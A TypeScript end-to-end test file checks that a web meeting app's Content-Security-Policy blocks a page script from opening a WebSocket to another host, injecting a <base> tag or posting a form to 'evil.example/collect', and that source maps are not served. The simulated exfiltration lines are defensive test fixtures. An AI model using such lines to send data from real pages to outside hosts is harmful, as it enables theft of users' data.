// The web app under its Content-Security-Policy, in Chromium: the app still joins a meeting over its WebSocket
// ('self' covers the page's own wss: origin), while a script on the page cannot open a WebSocket to another
// host, set a <base> or post a form elsewhere. Source maps are built but not served.
import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { joinThroughUi, newParticipant, waitUntil, type Participant } from '../helpers/browser.ts';
import { useServerAndBrowser } from '../helpers/e2e.ts';

const distWeb = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../dist/web');

interface Violation {
  directive: string;
  blocked: string;
}

async function violations(p: Participant): Promise<Violation[]> {
  return await p.page.evaluate(() => (window as unknown as { __csp: Violation[] }).__csp);
}

describe('the web app under its Content-Security-Policy', () => {
  const suite = useServerAndBrowser();
  let ana: Participant;

  before(async () => {
    ana = await newParticipant(suite.browser, 'Ana');
    await ana.page.addInitScript(() => {
      const list: { directive: string; blocked: string }[] = [];
      (window as unknown as { __csp: unknown }).__csp = list;
      document.addEventListener('securitypolicyviolation', (e) => list.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
    });
  });

  test('the app joins over its own wss: origin with no violation', async () => {
    await joinThroughUi(ana, suite.server.baseUrl, 'Guarded');
    assert.deepEqual(await violations(ana), []);
    const response = await ana.page.request.get(`${suite.server.baseUrl}/Guarded`);
    const csp = response.headers()['content-security-policy']!;
    assert.match(csp, /connect-src 'self' wss:\/\/127\.0\.0\.1:\d+;/);
    assert.match(csp, /base-uri 'none'/);
    assert.match(csp, /form-action 'self'/);
  });

  test('a script on the page cannot open a WebSocket to another host, set a <base> or post a form elsewhere', async () => {
    const outcome = await ana.page.evaluate(async () => {
      const ws = new WebSocket('wss://127.0.0.2:9/steal');
      const wsResult = await new Promise<string>((resolve) => {
        ws.onopen = () => resolve('open');
        ws.onerror = () => resolve('error');
        setTimeout(() => resolve('timeout'), 5000);
      });
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = 'https://evil.example/collect';
      form.target = '_blank';
      document.body.append(form);
      form.submit();
      return { wsResult, baseURI: document.baseURI };
    });
    assert.notEqual(outcome.wsResult, 'open');
    assert.ok(!outcome.baseURI.startsWith('https://evil.example'), outcome.baseURI);
    const seen = await waitUntil(
      'the three violations',
      () => violations(ana),
      (v) => ['connect-src', 'base-uri', 'form-action'].every((d) => v.some((x) => x.directive === d)),
      10_000,
    );
    assert.ok(seen.some((v) => v.directive === 'connect-src' && v.blocked.startsWith('wss://127.0.0.2')), JSON.stringify(seen));
    // and the meeting is still there
    await ana.page.getByRole('group', { name: 'Ana (you)' }).waitFor({ timeout: 5000 });
  });

  test('source maps are built but not served, and the scripts do not point at them', async () => {
    const assets = readdirSync(path.join(distWeb, 'assets'));
    const maps = assets.filter((f) => f.endsWith('.js.map'));
    assert.ok(maps.length > 0, 'the build makes source maps');
    for (const map of maps) {
      const r = await ana.page.request.get(`${suite.server.baseUrl}/assets/${map}`);
      assert.equal(r.status(), 404, map);
      const js = await ana.page.request.get(`${suite.server.baseUrl}/assets/${map.slice(0, -'.map'.length)}`);
      assert.equal(js.status(), 200);
      assert.doesNotMatch(await js.text(), /sourceMappingURL/);
      assert.equal(js.headers().sourcemap, undefined);
    }
  });
});
